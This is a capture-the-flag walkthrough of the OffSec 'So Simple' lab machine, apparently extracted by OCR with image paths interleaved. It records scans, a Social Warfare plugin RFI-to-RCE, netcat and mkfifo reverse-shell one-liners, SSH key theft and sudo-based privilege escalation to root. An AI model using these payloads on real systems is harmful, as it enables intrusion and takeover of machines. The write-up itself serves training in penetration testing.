OffSec PG - So Simple


Machine IP →

Network Scan

Nmap scan → nmap -A -Pn -p- -T4 -o nmap.txt

OS Detection → OS: Linux; CPE: cpe:/o:linux:linux_kernel


PortServiceOther details (if any)
22SSHOpenSSH 8.2p1 Ubuntu 4ubuntu0.1 (Ubuntu Linux; protocol 2.0)80HTTPApache httpd 2.4.41 ((Ubuntu))

Web Scan

GoBuster scan → gobuster dir -u -f -w /home/tanq/installations/SecLists/Discovery/Web-Content/directory-list-lowercase-2.3-medium.txt -x html,php,txt

Directories/files listed →

  • index.html
  • icons/ (403)
  • wordpress/
  • server-status/ (403)

Repeating a scan for the /wordpress/ subdirectory, the following were listed →

  • index.php (301)
  • wp-content/
  • wp-login.php
  • license.txt
  • wp-includes/
  • readme.html
  • wp-trackback.php
  • wp-admin (302, to wp-login.php)

WPScan was also run given the presence of the wordpress site. This revealed the following findings →

  • Plugin Social Warfare 3.5.0 (out of date)
  • Plugin Simple Cart Solution 0.2.0 (out of date)
  • Theme twentynineteen 1.6 (out of date)
  • Wordpress version 5.4.2• Enabled WP-Cron at /wordpress/wp-cron.php
  • Directory listing at /wordpress/wp-content/uploads/
  • XMLRPC enabled at /xmlrpc.php



With all the information above, the first searchsploit result is that of an RCE in Social Warfare versions < 3.5.3. Looking at the exploit, it needs a payload url to know the payload (an RFI). This will be included in /wordpress/wp-admin/admin-post.php?swp_debug=load_options&swp_url=<RFI_URL>.

Reverse Shell

Visiting this page would give the result of the command in the payload url. The payload must be of the form → <pre>system('whoami')</pre>. Checking the existence of netcat and bash, a new payload can be used for a reverse shell → nc -e /bin/bash 3002. This didn’t work, therefore, used the usual bash payload rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i2>&1|nc 3002 >/tmp/f. This grants the shell as www-data user.

Privilege Escalation

User 1

Looking at /etc/passwd, the users of interest are root, max and steven. The home directory of both max and steven are readable by www-data. The user flag is in max’s home directory. The webroot also contains a base32 encoded string in a file mybackup.txtJEQGQYLWMUQHI3ZANNSWK4BAORUGS4ZAOBQXG43XN5ZGIIDTN5WWK53IMVZGKIDTMFTGK3DZEBRGKY3BOVZWKICJEBRWC3RHOQQHEZLNMVWWEZLSEBUXIORAN5YGK3TTMVZWC3LF.

This decodes to I have to keep this password somewhere safely because I can't remember it: opensesame. Therefore, this password is attempted on ssh for max and steven. However, this did not work.

The home directory of maxalso has a .ssh directory, which contains the private key of max. This is readable by www-data and is thus used to ssh into the server as max, which grants the shell and thus the user flag as well.

User 2

Checked the ability of max to run sudousing sudo -l. This allowed running /usr/sbin/service as steven without a password. The service command looks for services in a specific directory and launches them. It can therefore be tricked by prepending ../../../../ to whichever command needs to be executed.Therefore running →

sudo -u steven/usr/sbin/service ../../../../bin/bashgrants the shell as steven.


Looked at the ability of steven to run sudo. This revealed that steven is allowed to run /opt/tools/ as root without a password. The path does not exist,therefore, a new executable is created with the same name and the following content →

bash -pThen command sudo /opt/tools/ is executed, which grants the shell as root and also the root flag.

This post islicensed under CC BY 4.0 by the author.